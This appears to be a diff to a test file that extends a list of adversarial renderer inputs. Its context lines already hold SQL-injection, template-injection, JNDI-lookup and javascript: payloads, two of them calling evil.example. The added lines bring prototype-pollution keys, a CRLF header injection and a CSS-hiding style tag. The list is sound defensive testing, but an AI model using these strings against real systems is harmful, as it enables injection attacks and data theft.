@@ -14,6 +14,17 @@ TEXTS = [
     *(MARKUP, "$\\href{javascript:alert(1)}{x}$", "![x](https://evil.example/a.png)", ":red[x]"),
     *("'; DROP TABLE a; --", "{{7*7}}", "%s%n", "${jndi:ldap://evil.example}", "%2e%2e%2f"),
     *("\u202e", "\ufeff", "\u2028", "a\u0300" * 300, "😀" * 3000, "\x1b[31m", "\ud7ff", "👩‍👩‍👧"),
+    *("__proto__", "constructor", "\\", "\t", "\r\nX: y", "a\x7fb", "ﷺ" * 200, "İ" * 99, "٠" * 30),
+    *(
+        "Ⅷ",
+        "1e-999",
+        "+1",
+        "1.5.2",
+        "<!--",
+        "</style><style>*{display:none}</style>",
+        "&lt;",
+        "~/..",
+    ),
     *("a " * 800, "\n\n" * 700, "(" * 500, "[" * 500, "ab\n\n" * 300, "null", "<|endoftext|>"),
 ]
 NUMBERS = [
